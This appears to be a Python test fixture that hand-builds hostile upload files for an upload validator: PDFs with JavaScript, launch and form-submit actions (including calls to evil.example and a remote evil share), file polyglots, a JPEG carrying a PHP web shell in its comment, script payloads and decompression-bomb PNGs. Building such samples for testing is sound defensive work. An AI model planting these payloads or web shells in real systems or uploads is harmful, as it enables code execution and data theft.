"""Hostile documents for the upload tests, built by hand so each holds exactly one trick (issue 13, findings
1 and 16): PDFs with active content, polyglots, and files that cost more to check than the bounds allow."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from members.sample_files import sample_jpeg, sample_pdf

HTML_TRAILER = b"<html><script>alert(document.cookie)</script></html>"


def raw_pdf(*extra_objects: bytes, catalog: bytes = b"", after_eof: bytes = b"") -> bytes:
    """A one-page PDF with a classic cross-reference table: objects 1-3 are the catalog, the page tree and
    the page; `extra_objects` are numbered from 4; `catalog` is added to the catalog's dictionary."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        *extra_objects,
    ]
    parts = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    offsets = []
    length = len(parts[0])
    for number, body in enumerate(objects, 1):
        offsets.append(length)
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")
        length += len(parts[-1])
    out = b"".join(parts)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out + after_eof


def stream(dictionary: bytes, body: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(body) + body + b"\nendstream"


def object_stream(objects: dict[int, bytes]) -> bytes:
    """An object stream (/Type /ObjStm, FlateDecode) holding `objects` (number -> body)."""
    header, bodies = b"", b""
    for number, body in objects.items():
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    packed = zlib.compress(header + bodies)
    return stream(b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(objects), len(header)), packed)


# (case id, the PDF): each one trick a desktop reader would act on.
ACTIVE_PDFS = [
    ("javascript-open-action", raw_pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", catalog=b"/OpenAction 4 0 R")),
    (
        "javascript-name-tree",
        raw_pdf(
            b"<< /Names [(init) 5 0 R] >>",
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
            catalog=b"/Names << /JavaScript 4 0 R >>",
        ),
    ),
    ("launch-action", raw_pdf(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")),
    (
        "page-additional-action-launch",
        raw_pdf(b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E << /S /Launch /F (x.exe) >> >> >>"),
    ),
    ("submit-form", raw_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>")),
    ("import-data", raw_pdf(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>")),
    ("goto-remote", raw_pdf(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")),
    ("goto-embedded", raw_pdf(catalog=b"/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>")),
    (
        "embedded-file",
        raw_pdf(
            b"<< /Names [(invoice.exe) 5 0 R] >>",
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>",
            stream(b"/Type /EmbeddedFile", b"MZ\x90\x00"),
            catalog=b"/Names << /EmbeddedFiles 4 0 R >>",
        ),
    ),
    ("rich-media", raw_pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>")),
    ("xfa-form", raw_pdf(stream(b"", b"<xdp:xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>")),
    # Names written with #-escapes: /J#61vaScript is /JavaScript, /#4A#53 is /JS, /L#61unch is /Launch.
    ("escaped-javascript-name", raw_pdf(catalog=b"/OpenAction << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>")),
    ("escaped-launch-name", raw_pdf(catalog=b"/OpenAction << /S /L#61unch /F (calc.exe) >>")),
    # An object no cross-reference entry names, after the end marker: readers that repair files find it.
    (
        "javascript-outside-the-xref",
        raw_pdf(after_eof=b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"),
    ),
    # Inside a compressed object stream, where a plain byte search does not see it.
    (
        "javascript-in-a-compressed-object-stream",
        raw_pdf(object_stream({5: b"<< /S /J#61vaScript /JS (app.alert\\(1\\)) >>"}), catalog=b"/OpenAction 5 0 R"),
    ),
]

# PDFs with links, a destination to open at, a form and an image: what real documents have; accepted.
PLAIN_PDFS = [
    ("open-at-a-page", raw_pdf(catalog=b"/OpenAction [3 0 R /Fit]")),
    (
        "web-link",
        raw_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >>"),
    ),
    ("goto-same-file", raw_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
]


def photo_as_pdf() -> bytes:
    """A scanned-looking PDF: a noisy photo, JPEG-compressed inside (random bytes must not look like names)."""
    image = Image.effect_noise((1200, 1600), 80).convert("RGB")
    buffer = io.BytesIO()
    image.save(buffer, "PDF", resolution=150)
    return buffer.getvalue()


def noisy_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((1600, 1200), 90).convert("RGB").save(buffer, "JPEG", quality=95)
    return buffer.getvalue()


def a_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
    return buffer.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A PDF that is also a JAR: the archive sits in a stream, its end record near the end of the file."""
    return raw_pdf(stream(b"", a_zip()))


def png_pdf_polyglot() -> bytes:
    """A PNG whose text chunk holds a whole PDF (readers look for %PDF- in the first kilobyte)."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", sample_pdf().decode("latin-1"))
    buffer = io.BytesIO()
    Image.new("RGB", (60, 80), (30, 120, 60)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def jpeg_php_comment() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (60, 80), (200, 180, 150)).save(buffer, "JPEG", comment=b"<?php system($_GET['c']); ?>")
    return buffer.getvalue()


def _png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Description", text)
    buffer = io.BytesIO()
    Image.new("RGB", (60, 80), (30, 120, 60)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


# (case id, file name, content, document type, what the person is told)
POLYGLOTS = [
    ("png-pdf", "photo.png", png_pdf_polyglot(), "passport_photo", "also holds another kind of file"),
    ("pdf-zip-jar", "id.pdf", pdf_zip_polyglot(), "national_id", "archive (ZIP or JAR) hidden inside it"),
    ("jpeg-trailing-html", "photo.jpg", sample_jpeg() + HTML_TRAILER, "passport_photo", "also holds another kind"),
    ("jpeg-trailing-pdf", "photo.jpg", sample_jpeg() + sample_pdf(), "passport_photo", "also holds another kind"),
    ("jpeg-trailing-zip", "photo.jpg", sample_jpeg() + a_zip(), "passport_photo", "archive (ZIP or JAR)"),
    ("jpeg-php-comment", "photo.jpg", jpeg_php_comment(), "passport_photo", "also holds another kind of file"),
    (
        "png-html-in-text-chunk",
        "photo.png",
        _png_with_text(HTML_TRAILER.decode()),
        "passport_photo",
        "also holds another kind of file",
    ),
    (
        "pdf-with-html-outside-streams",
        "id.pdf",
        raw_pdf(b"(<html><script>alert(1)</script></html>)"),
        "national_id",
        "also holds a web page",
    ),
]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def flat_png(width: int, height: int, *, colour_type: int = 6) -> bytes:
    """A one-colour PNG built row by row (the test never holds the pixels): RGBA by default, 4 bytes a pixel
    once decoded, so 6000x6000 is 144 MB of pixels in a file of about 140 KB."""
    channels = {0: 1, 2: 3, 6: 4}[colour_type]
    packer = zlib.compressobj(9)
    row = b"\x00" + b"\x80" * (width * channels)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def many_objects_pdf(count: int) -> bytes:
    """A one-page PDF with `count` small objects more: pypdf parses each one, in Python."""
    return raw_pdf(*[b"<< /A [1 2 3 4 5 6 7 8] /B << /C 1 /D (text) >> >>"] * count)
